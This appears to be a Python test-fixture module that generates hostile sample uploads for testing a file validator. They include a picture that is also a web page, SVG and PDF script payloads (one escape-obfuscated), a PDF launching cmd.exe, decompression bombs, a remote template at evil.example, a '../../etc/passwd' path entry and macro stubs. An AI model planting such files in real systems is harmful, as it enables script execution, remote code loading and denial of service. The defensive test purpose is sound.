"""Files that mean harm, and harmless ones beside them."""

import io
import struct
import zipfile
import zlib

from PIL import Image

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
WORDS = (
    '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    '<w:p><w:ins w:id="1" w:author="CanaryAuthor" w:initials="CA"><w:r><w:t>The plan</w:t></w:r></w:ins></w:p>'
    "</w:body></w:document>"
)
CORE = (
    '<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
    'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>CanaryAuthor</dc:creator>'
    "<cp:lastModifiedBy>CanaryEditor</cp:lastModifiedBy></cp:coreProperties>"
)
RELATIONS = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def jpeg(**extra) -> bytes:
    out = io.BytesIO()
    Image.effect_noise((640, 480), 60).convert("RGB").save(out, "JPEG", **extra)
    return out.getvalue()


def archive(parts: dict[str, str | bytes], *, stored=("mimetype",)) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, body in parts.items():
            packed.writestr(name, body, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def docx(**more: str | bytes) -> bytes:
    return archive(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": WORDS, "docProps/core.xml": CORE, **more}
    )


def odt(**more: str | bytes) -> bytes:
    text = (
        '<office:document-content xmlns:office="o" xmlns:text="t" xmlns:dc="d"><office:body><text:p>The plan'
        "<office:annotation><dc:creator>CanaryAuthor</dc:creator></office:annotation></text:p></office:body>"
        "</office:document-content>"
    )
    meta = "<office:document-meta><meta:initial-creator>CanaryAuthor</meta:initial-creator></office:document-meta>"
    kind = "application/vnd.oasis.opendocument.text"
    return archive({"mimetype": kind, "content.xml": text, "meta.xml": meta, **more})


def pdf(catalog: str = "", *objects: bytes, info: str = "/Author (Canary\\)Author) /Producer <43616e617279>") -> bytes:
    """A whole small PDF with a table of places; `objects` are further ones, from number 5 on."""
    every = [
        f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        f"<< {info} >>".encode(),
        *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(every, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%btrailer\n" % (len(every) + 1, table)
    start = out.rindex(b"xref\n0 ")
    return out + b"<< /Size %d /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(every) + 1, start)


def stream(dictionary: bytes, body: bytes, *, packed=True) -> bytes:
    body = zlib.compress(body) if packed else body
    kind = b"/Filter /FlateDecode " if packed else b""
    return b"<< %b %b/Length %d >>\nstream\n%b\nendstream" % (dictionary, kind, len(body), body)


def huge_png() -> bytes:
    """A PNG of 30,000 × 30,000 points in about a hundred kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    packer = zlib.compressobj(9)
    row = bytes(1 + 30_000 // 8)
    body = b"".join(packer.compress(row * 1000) for _thousand in range(30)) + packer.flush()
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


class Endless(io.RawIOBase):
    """A stream without an end, which counts what is taken from it."""

    name = "endless.jpg"

    def __init__(self):
        self.taken = 0

    def seek(self, *args):
        return 0

    def read(self, size=-1):
        if size < 0:
            raise AssertionError("somebody wants all of it")
        self.taken += size
        return b"\xff\xd8\xff" + bytes(size - 3)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
PICTURES = {
    "a picture that is a web page too": ("a.jpg", lambda: jpeg(comment=HTML)),
    "a picture that is an archive too": ("a.jpg", lambda: jpeg() + archive({"A.class": b"\xca\xfe\xba\xbe"})),
    "a drawing called a picture": ("a.png", lambda: SVG),
    "a web page called a picture": ("a.jpg", lambda: HTML),
    "900 million points": ("a.png", huge_png),
    "half a picture": ("a.jpg", lambda: jpeg()[:2000]),
    "nothing at all": ("a.jpg", lambda: b""),
    "far too much": ("a.jpg", lambda: jpeg() + bytes(17 * 1024 * 1024)),
    "another ending": ("a.exe", jpeg),
    "an archive called a picture": ("a.png", lambda: archive({"a.png": jpeg()})),
}
DOCUMENTS = {
    "a web page called a PDF": ("a.pdf", lambda: HTML),
    "a PDF that is a web page too": ("a.pdf", lambda: b"%PDF-1.4\n<html><script>1</script>\n%%EOF"),
    "a script": ("a.pdf", lambda: pdf("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "a script in disguise": ("a.pdf", lambda: pdf("/OpenAction << /S /J#61vaScr#69pt /JS (app.alert(1)) >>")),
    "a script in a packed stream": (
        "a.pdf",
        lambda: pdf("", stream(b"/Type /ObjStm /N 1 /First 4", b"9 0 << /S /JavaScript /JS (1) >>")),
    ),
    "a program that is started": ("a.pdf", lambda: pdf("/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "a file in a file": ("a.pdf", lambda: pdf("/Names << /EmbeddedFiles 9 0 R >>")),
    "a locked PDF": ("a.pdf", lambda: pdf().replace(b"/Root 1 0 R", b"/Encrypt 9 0 R /Root 1 0 R")),
    "a packed stream that never ends": (
        "a.pdf",
        lambda: pdf("", stream(b"/Type /ObjStm /N 1 /First 4", bytes(80 * 1024 * 1024))),
    ),
    "an archive that unpacks to a gigabyte": ("a.docx", lambda: docx(**{"word/media/a.xml": bytes(200 * 1024 * 1024)})),
    "macros": ("a.docx", lambda: docx(**{"word/vbaProject.bin": b"x"})),
    "a template from elsewhere": (
        "a.docx",
        lambda: docx(
            **{
                "word/_rels/settings.xml.rels": RELATIONS.format(
                    f'<Relationship Id="r1" Type="{OFFICE}/attachedTemplate" Target="https://evil.example/t.dotm" '
                    'TargetMode="External"/>'
                )
            }
        ),
    ),
    "an archive in an archive": ("a.docx", lambda: docx(**{"word/inner.zip": archive({"a": b"b"})})),
    "an entity that grows": (
        "a.docx",
        lambda: docx(**{"word/styles.xml": '<!DOCTYPE a [<!ENTITY b "bb">]><a>&b;</a>'}),
    ),
    "a part above the folder": ("a.docx", lambda: docx(**{"../../etc/passwd": "x"})),
    "a basic library": ("a.odt", lambda: odt(**{"Basic/Standard/Module1.xml": "<a/>"})),
    "an archive called a document": ("a.docx", lambda: archive({"a.txt": "x"})),
    "a program called text": ("a.txt", lambda: b"MZ\x90\x00\x03\x00\x00\x00" + bytes(range(256))),
    "text with a hole": ("a.csv", lambda: b"a,b\0,c"),
    "nothing at all": ("a.pdf", lambda: b""),
    "far too much": ("a.txt", lambda: b"a" * (17 * 1024 * 1024)),
    "another ending": ("a.html", lambda: HTML),
    "two thousand letters of a name": ("a." + "x" * 2000, lambda: b"words"),
}
